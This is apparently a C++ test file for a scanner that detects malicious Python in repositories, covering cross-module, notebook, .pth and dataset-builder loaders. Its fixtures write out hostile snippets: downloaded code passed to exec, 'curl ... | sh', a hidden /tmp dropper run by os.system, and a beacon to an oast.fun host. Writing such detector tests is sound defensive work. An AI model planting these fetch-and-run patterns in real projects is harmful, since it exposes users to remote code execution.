#include "scanner/code/python/repository.hpp"
#include "tests/support/scan_bytes.hpp"

#include <gtest/gtest.h>

#include <map>

namespace hubgate::python {
namespace {

using test::find_rule;
using test::show;

using Texts = std::vector<std::pair<std::string, std::string>>;

// The first file is the entry point.
Report analyse(const Texts& files) {
  BundleWriter writer;
  bool first = true;
  for (const auto& [path, text]: files) {
    EXPECT_TRUE(writer.add(path, text, first ? When::at_load : When::on_call));
    first = false;
  }
  MemorySource source(as_bytes(writer.bytes()));
  const std::array<const Format*, 1> only{&format_repository};
  Report report = scan_object(only, source, Limits{}, nullptr);
  writer.name_files(report);
  return report;
}

void expect_found(const Texts& files, std::string_view rule, const std::string& in,
                  const std::string& evidence) {
  const Report report = analyse(files);
  const Finding* finding = find_rule(report, rule);
  ASSERT_NE(finding, nullptr) << files[0].second << "\n" << show(report);
  EXPECT_EQ(finding->where, in);
  EXPECT_NE(finding->evidence.find(evidence), std::string::npos) << finding->evidence;
}

const std::string k_fetch = "import requests\ndef fetch():\n"
                            "    return requests.get('http://127.0.0.1/x').text\n";
const std::string k_run = "import os\ndef run(c):\n    os.system(c)\n";

TEST(PythonRepository, a_download_in_one_file_is_run_in_another) {
  for (const std::string ds: {
           "from .data import fetch\nexec(fetch())\n",
           "from data import fetch\nexec(fetch())\n",
           "import data\nexec(data.fetch())\n",
           "import data as d\nexec(d.fetch())\n",
           "from . import data\nexec(data.fetch())\n",
           "from data import *\nexec(fetch())\n",
           "import importlib\nd = importlib.import_module('.data', __package__)\nexec(d.fetch())\n",
           "d = __import__('da' + 'ta')\nexec(getattr(d, 'fetch')())\n",
           "import sys, data\nexec(sys.modules['data'].fetch())\n",
           "import data\nexec(data.__dict__['fetch']())\n",
           "import data\nexec(vars(data)['fetch']())\n",
           "import importlib as i\nexec(i.import_module(f'{__package__}.data').fetch())\n",
           ("import importlib.util as u, os\n"
            "s = u.spec_from_file_location('d', os.path.join(os.path.dirname(__file__), "
            "'data.py'))\n"
            "m = u.module_from_spec(s)\ns.loader.exec_module(m)\nexec(m.fetch())\n"),
           ("from importlib.machinery import SourceFileLoader as L\n"
            "exec(L('d', 'data.py').load_module().fetch())\n"),
           "import runpy\nexec(runpy.run_path('data.py')['fetch']())\n",
       }) {
    const Report report = analyse({{"ds.py", ds}, {"data.py", k_fetch}});
    const Finding* finding = find_rule(report, "python-execution");
    ASSERT_NE(finding, nullptr) << ds << show(report);
    EXPECT_EQ(finding->where, "ds.py");
    EXPECT_EQ(finding->severity, Severity::malicious);
    EXPECT_NE(finding->evidence.find("data.py:3: return requests.get"), std::string::npos)
        << finding->evidence;
    EXPECT_NE(finding->evidence.find(" -> ds.py:"), std::string::npos) << finding->evidence;
    EXPECT_TRUE(finding->evidence.starts_with("runs when the repository is loaded"));
  }
}

TEST(PythonRepository, packages_and_folders) {
  expect_found({{"ds.py", "from util.net import fetch\nexec(fetch())\n"}, {"util/net.py", k_fetch}},
               "python-execution", "ds.py", "util/net.py:3");
  expect_found({{"ds.py", "import util.net\nexec(util.net.fetch())\n"}, {"util/net.py", k_fetch}},
               "python-execution", "ds.py", "util/net.py:3");
  expect_found({{"ds.py", "from util import get\nexec(get())\n"},
                {"util/__init__.py", "from .net import fetch as get\n"},
                {"util/net.py", k_fetch}},
               "python-execution", "ds.py", "util/net.py:3");
  expect_found(
      {{"pkg/sub/ds.py", "from ..net import fetch\nexec(fetch())\n"}, {"pkg/net.py", k_fetch}},
      "python-execution", "pkg/sub/ds.py", "pkg/net.py:3");
  expect_found({{"ds.py", "import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname("
                          "__file__), 'lib'))\nimport helper\nexec(helper.fetch())\n"},
                {"lib/helper.py", k_fetch}},
               "python-execution", "ds.py", "lib/helper.py:3");
}

TEST(PythonRepository, sinks_helpers_classes_and_constants_of_other_files) {
  expect_found(
      {{"ds.py", "from sh import run\nrun('curl http://127.0.0.1/x | sh')\n"}, {"sh.py", k_run}},
      "python-download-run", "sh.py", "ds.py:2: run(");
  expect_found({{"ds.py", "from data import P\nimport base64\nexec(base64.b64decode(P))\n"},
                {"data.py", "P = 'cHJpbnQoMSk='\n"}},
               "python-execution", "ds.py", "ds.py:3");
  expect_found({{"ds.py", "from base import Base\nclass B(Base):\n  def go(self):\n"
                          "    exec(self.fetch())\nB().go()\n"},
                {"base.py", "import requests\nclass Base:\n  def fetch(self):\n"
                            "    return requests.get('http://127.0.0.1').text\n"}},
               "python-execution", "ds.py", "base.py:4");
  expect_found({{"ds.py", "import drop, start\n"},
                {"drop.py", "import urllib.request as u\n"
                            "u.urlretrieve('http://127.0.0.1/a', '/tmp/.cache-a')\n"},
                {"start.py", "import os\nos.system('/tmp/.cache-a &')\n"}},
               "python-download-run", "start.py", "start.py:2");
}

TEST(PythonRepository, what_a_builder_hands_to_its_methods) {
  expect_found({{"ds.py", "import datasets\nfrom net import fetch\n"
                          "class B(datasets.GeneratorBasedBuilder):\n"
                          "  def _generate_examples(self, code, path):\n    exec(code)\n"
                          "  def _split_generators(self, dl):\n"
                          "    return [datasets.SplitGenerator(name='train', gen_kwargs={'path': "
                          "dl.download('x'), 'code': fetch()})]\n"},
                {"net.py", k_fetch}},
               "python-execution", "ds.py", "net.py:3");
  expect_found({{"ds.py", "import datasets\nfrom conf import Config\n"
                          "class B(datasets.GeneratorBasedBuilder):\n"
                          "  BUILDER_CONFIG_CLASS = Config\n"
                          "  def _info(self):\n    exec(self.config.code)\n"},
                {"conf.py", "import datasets\nfrom net import fetch\n"
                            "class Config(datasets.BuilderConfig):\n"
                            "  def __init__(self, **kw):\n    self.code = fetch()\n"},
                {"net.py", k_fetch}},
               "python-execution", "ds.py", "net.py:3");
  const Report honest =
      analyse({{"ds.py", "import datasets\nfrom net import fetch\n"
                         "class B(datasets.GeneratorBasedBuilder):\n"
                         "  def _generate_examples(self, code, path):\n    exec(path)\n"
                         "  def _split_generators(self, dl):\n"
                         "    return [datasets.SplitGenerator(name='train', gen_kwargs={'path': "
                         "'1 + 1', 'code': fetch()})]\n"},
               {"net.py", k_fetch}});
  EXPECT_EQ(find_rule(honest, "python-execution"), nullptr) << show(honest);
}

TEST(PythonRepository, notebooks_and_path_files_are_files_of_it) {
  const auto cells = [](const std::string& lines) {
    return "{\"nbformat\": 4, \"metadata\": {}, \"cells\": [{\"cell_type\": \"markdown\", "
           "\"source\": \"text\"}, {\"cell_type\": \"code\", \"outputs\": [], \"source\": [" +
           lines + "]}]}";
  };
  expect_found({{"train.py", "print(1)\n"},
                {"data.py", k_fetch},
                {"a/demo.ipynb", cells("\"%matplotlib inline\\n\", \"from data import fetch\\n\", "
                                       "\"exec(fetch())\\n\"")}},
               "python-execution", "a/demo.ipynb", "data.py:3");
  expect_found(
      {{"drop.py", "import urllib.request as u\ndef get():\n"
                   "  u.urlretrieve('http://127.0.0.1/a', 'setup_tool.sh')\n"},
       {"demo.ipynb", cells("\"import drop\\n\", \"drop.get()\\n\", \"!bash setup_tool.sh\"")}},
      "python-download-run", "demo.ipynb", "setup_tool.sh");
  expect_found({{"x.pth", "/usr/lib\nimport data; exec(data.fetch())\n"}, {"data.py", k_fetch}},
               "python-execution", "x.pth", "data.py:3");
  const Report honest = analyse({{"data.py", k_fetch},
                                 {"demo.ipynb", cells("\"from data import fetch\\n\", "
                                                      "\"print(fetch())\\n\", \"!bash run.sh\"")},
                                 {"broken.ipynb", "{\"cells\": ["},
                                 {"weights.pth", "not a path file"}});
  EXPECT_TRUE(honest.findings.empty()) << show(honest);
}

TEST(PythonRepository, what_is_suspicious_counts_where_it_runs_at_load) {
  const std::string sh = "import os\ndef run(c):\n    os.system(c)\n";
  const Texts files{{"ds.py", "from sh import run\nrun('curl http://x.oast.fun/a')\n"},
                    {"sh.py", sh}};
  const Report loaded = analyse(files);
  ASSERT_NE(find_rule(loaded, "python-beacon"), nullptr) << show(loaded);
  const Report called = analyse({{"train.py", "print(1)\n"}, files[0], files[1]});
  EXPECT_EQ(find_rule(called, "python-beacon"), nullptr) << show(called);
}

TEST(PythonRepository, code_that_runs_at_load_is_told_from_code_that_is_called) {
  const Report report = analyse({{"train.py", "import os\nprint(os.getcwd())\n"},
                                 {"tool.py", "from data import fetch\ndef f():\n  exec(fetch())\n"},
                                 {"data.py", k_fetch}});
  const Finding* finding = find_rule(report, "python-execution");
  ASSERT_NE(finding, nullptr) << show(report);
  EXPECT_FALSE(finding->evidence.starts_with("runs when"));
}

TEST(PythonRepository, of_a_large_program_what_runs_at_load_is_judged) {
  Texts files{{"hubconf.py", "from data import fetch\nexec(fetch())\n"},
              {"run.py", "from data import fetch\ndef go():\n  exec(fetch())\n"},
              {"data.py", k_fetch}};
  for (int i = 0; i < 200; ++i)
    files.emplace_back("m" + std::to_string(i) + ".py", "x = len('x')\n");
  const Report report = analyse(files);
  ASSERT_EQ(report.findings.size(), 1U) << show(report);
  EXPECT_EQ(report.findings[0].where, "hubconf.py");
  EXPECT_EQ(report.findings[0].severity, Severity::malicious);
}

TEST(PythonRepository, honest_repositories_say_nothing) {
  for (const Texts& files: std::vector<Texts>{
           {{"ds.py", "from .data import fetch\nimport json\nrows = json.loads(fetch())\n"},
            {"data.py", k_fetch}},
           {{"ds.py", "from sh import run\nrun('git lfs pull')\n"}, {"sh.py", k_run}},
           {{"a.py", "import b\nb.f()\n"}, {"b.py", "import a\ndef f():\n  return a\n"}},
           // A name of a library is the library's.
           {{"ds.py", "import logging\nexec(logging.fetch())\n"}, {"logging.py", k_fetch}},
           // A part of the same word is another file.
           {{"ds.py", "import drop, start\n"},
            {"drop.py",
             "import urllib.request as u\nu.urlretrieve('http://127.0.0.1/a', 'data')\n"},
            {"start.py", "import os\nos.system('tar xf database.tar')\n"}},
           // Each file's own words: one mentions a collecting host, another asks for its name.
           {{"ds.py", "import a, b\n"},
            {"a.py", "DOC = 'https://discord.com/api/webhooks/1/x'\n"},
            {"b.py", "import requests, socket\n"
                     "requests.post('http://127.0.0.1/log', json={'h': socket.gethostname()})\n"}},
       }) {
    const Report report = analyse(files);
    EXPECT_TRUE(test::is_clean(report)) << files[0].second << show(report);
  }
}

TEST(PythonRepository, long_chains_and_cycles_of_imports_end) {
  Texts chain;
  for (int i = 0; i < 1500; ++i)
    chain.emplace_back("m" + std::to_string(i) + ".py",
                       "import m" + std::to_string((i + 1) % 1500) + "\nprint(1)\n");
  const Report report = analyse(chain);
  EXPECT_TRUE(report.findings.empty()) << show(report);
}

TEST(PythonRepository, a_bundle_is_read_only_as_one) {
  BundleWriter writer;
  ASSERT_TRUE(writer.add("a.py", "import b\n", When::at_load));
  ASSERT_TRUE(writer.add("b.py", "", When::on_call));
  EXPECT_FALSE(writer.has_room("c.py", k_max_repository));
  const auto files = read_bundle(as_bytes(writer.bytes()));
  ASSERT_TRUE(files);
  ASSERT_EQ(files->size(), 2U);
  EXPECT_EQ((*files)[0].path, "a.py");
  EXPECT_EQ((*files)[0].when, When::at_load);
  EXPECT_EQ(writer.bytes().substr((*files)[0].begin, (*files)[0].length), "import b\n");
  for (std::size_t cut = 0; cut < writer.bytes().size(); ++cut) {
    const auto part = read_bundle(as_bytes(std::string_view(writer.bytes()).substr(0, cut)));
    EXPECT_TRUE(!part || part->size() < 2) << cut;
  }
  // What comes from outside is never taken for one.
  EXPECT_EQ(test::scan_bytes(writer.bytes()).format.find("repository"), std::string::npos);
}

} // namespace
} // namespace hubgate::python
